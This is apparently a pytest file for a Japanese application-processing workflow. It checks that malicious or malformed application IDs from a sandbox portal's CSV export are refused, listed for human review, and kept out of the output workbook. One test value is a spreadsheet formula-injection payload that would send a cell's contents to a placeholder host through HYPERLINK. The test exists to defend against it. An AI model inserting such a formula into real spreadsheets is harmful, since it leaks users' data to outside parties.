"""A 受付番号 from the portal is outside data: a hostile one is refused, listed, never keyed.

No browser: the sandbox portal's own CSV export is read and queued as the flow does it.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from core.ledger import Ledger, Status
from flows._e_application import SCENARIO, enqueue_export
from flows._human_list import write_human_list
from sandbox.fake_people import FakePeople
from sandbox.portal._csv import export_csv
from sandbox.portal._store import StoredApplication
from systems.e_application_portal import read_export

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&C2,"詳細")'
WITH_MY_NUMBER = "R2026-123456789018"  # shape of a key, but it carries a valid 個人番号
WITH_NAME = "山田太郎-000001"


def _export(ids: list[str], *, as_entered: dict[str, dict[str, str]]) -> bytes:
    people = FakePeople(seed=3)
    applications = people.recent_applications(len(ids))
    stored = [
        StoredApplication(
            application=app.model_copy(update={"application_id": key}),
            status="未処理",
            recipient_no=None,
            return_reason=None,
            updated_at="2026-04-01T09:00:00+09:00",
            as_entered=as_entered.get(key, {}),
        )
        for app, key in zip(applications, ids, strict=True)
    ]
    return export_csv(stored, encoding="utf-8-sig")


def test_hostile_application_ids_go_to_the_human_list_and_the_rest_goes_on(
    tmp_path: Path,
) -> None:
    ids = ["R2026-000001", HYPERLINK, WITH_MY_NUMBER, WITH_NAME, "R2026-000002"]
    data = _export(ids, as_entered={"R2026-000002": {"個人番号": "123456789019"}})
    assert b"'=HYPERLINK" in data  # the sandbox's CSV does not hand clerks a formula either
    rows = read_export(data, encoding="utf-8-sig")
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.sqlite3'}")

    result = enqueue_export(ledger, rows)

    assert result.keys == ["R2026-000001"]
    keys = {item.item_key for item in ledger.items(SCENARIO)}
    assert keys == {"R2026-000001", "R2026-000002"}  # nothing keyed by a refused id
    assert ledger.counts(SCENARIO)[Status.BUSINESS_FAILURE] == 1
    assert [item.label for item in result.unkeyed] == ["CSV 3行目", "CSV 4行目", "CSV 5行目"]
    assert {o.item_key for o in result.refused} >= {"CSV 3行目", "CSV 4行目", "CSV 5行目"}
    assert all(item.reason_code == "invalid-item-key" for item in result.unkeyed)
    assert "個人番号" in result.unkeyed[1].reason  # says why, not what

    path = tmp_path / "要確認リスト.xlsx"
    assert write_human_list(ledger, SCENARIO, path, unkeyed=result.unkeyed) == 4
    sheet = load_workbook(path)["要確認リスト"]
    listed = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in listed] == ["CSV 3行目", "CSV 4行目", "CSV 5行目", "R2026-000002"]
    assert "受付番号の形式が正しくありません" in str(listed[0][3])
    text = " ".join(str(cell) for row in listed for cell in row)
    for secret in ("HYPERLINK", "123456789018", "山田太郎", "123456789019"):
        assert secret not in text
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
